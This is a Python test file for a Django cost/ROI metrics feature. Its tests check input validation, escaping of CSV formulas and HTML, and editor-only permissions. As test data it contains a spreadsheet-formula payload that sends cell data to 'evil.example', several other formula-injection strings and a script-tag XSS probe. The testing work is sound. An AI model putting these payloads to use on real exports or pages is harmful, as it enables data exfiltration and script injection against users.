"""Probe of the cost/ROI model (R-KPI-8; decisions 0267-0269, 0135): odd numbers in an input or a
what-if parameter (NaN, Infinity, negative, huge, exponent strings) answer a clear 400 and change
nothing; the CSV export cannot carry a spreadsheet formula from a source note; a script in a
source note is shown as text; only an editor changes inputs."""

from __future__ import annotations

import csv
import io

import pytest

from safeguard.metrics import cost_selectors
from safeguard.metrics.models import CostInputChange
from tests.factories import make_user, signed_in_client

pytestmark = pytest.mark.django_db
ODD = ["NaN", "nan", "sNaN", "Infinity", "-Infinity", "inf", "-1", "1e999999999",
       "9" * 5000, "1E+999999999999999999", "0x10", "1e", "", "１２", "1_000_000_000_000_000_000"]


def _editor():  # type: ignore[no-untyped-def]
    return signed_in_client(make_user(roles=("compliance_manager",)))


def test_odd_what_if_values_never_crash_and_change_nothing() -> None:
    client = signed_in_client(make_user(roles=("security_analyst",)))
    for key in [i.key for i in cost_selectors.spec().inputs]:
        for raw in ODD:
            for url in ("/metrics/cost/", "/metrics/cost/export.csv", "/metrics/cost/export.json"):
                response = client.get(url, {key: raw})
                assert response.status_code in (200, 400), (key, raw, url)
    assert CostInputChange.objects.count() == 0


def test_odd_input_values_are_refused_with_a_reason() -> None:
    client = _editor()
    key = next(i.key for i in cost_selectors.spec().inputs if i.kind == "money")
    for raw in ["NaN", "Infinity", "-1", "1e999999999", "9" * 90, "sNaN"]:
        response = client.post("/metrics/cost/inputs/", {"key": key, "value": raw,
                                                          "source_note": "finance"})
        assert response.status_code == 400, raw
        assert "not changed" in response.content.decode()
    assert CostInputChange.objects.count() == 0


def test_a_formula_in_a_source_note_is_neutralised_in_the_csv_export() -> None:
    client = _editor()
    key = next(i.key for i in cost_selectors.spec().inputs if i.kind == "money")
    for note in ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "@SUM(A1)",
                 "-2+3"]:
        assert client.post("/metrics/cost/inputs/", {"key": key, "value": "1000",
                                                     "source_note": note}).status_code == 302
        rows = list(csv.reader(io.StringIO(
            client.get("/metrics/cost/export.csv").content.decode())))
        source = next(r[5] for r in rows if r[0] == "input" and r[1] == key)
        assert source == "'" + note
        assert all(not c.startswith(("=", "+", "@")) for r in rows for c in r)
        # numbers (a negative ROSI among them) stay numbers
        assert all(c.lstrip("-").replace(".", "", 1).isdigit() for r in rows
                   if r[0] in ("control_rosi",) and r[3] for c in [r[3]])


def test_a_script_in_a_source_note_is_text_on_the_page() -> None:
    client = _editor()
    key = next(i.key for i in cost_selectors.spec().inputs if i.kind == "money")
    client.post("/metrics/cost/inputs/", {"key": key, "value": "5",
                                          "source_note": "<script>alert(1)</script>"})
    page = client.get("/metrics/cost/").content.decode()
    assert "<script>alert(1)" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_only_an_editor_changes_an_input() -> None:
    key = next(i.key for i in cost_selectors.spec().inputs if i.kind == "money")
    viewer = signed_in_client(make_user(roles=("security_analyst",)))
    assert viewer.get("/metrics/cost/").status_code == 200
    assert viewer.post("/metrics/cost/inputs/", {"key": key, "value": "5",
                                                 "source_note": "x"}).status_code == 403
    assert viewer.get("/metrics/cost/inputs/").status_code in (403, 405)
    assert CostInputChange.objects.count() == 0
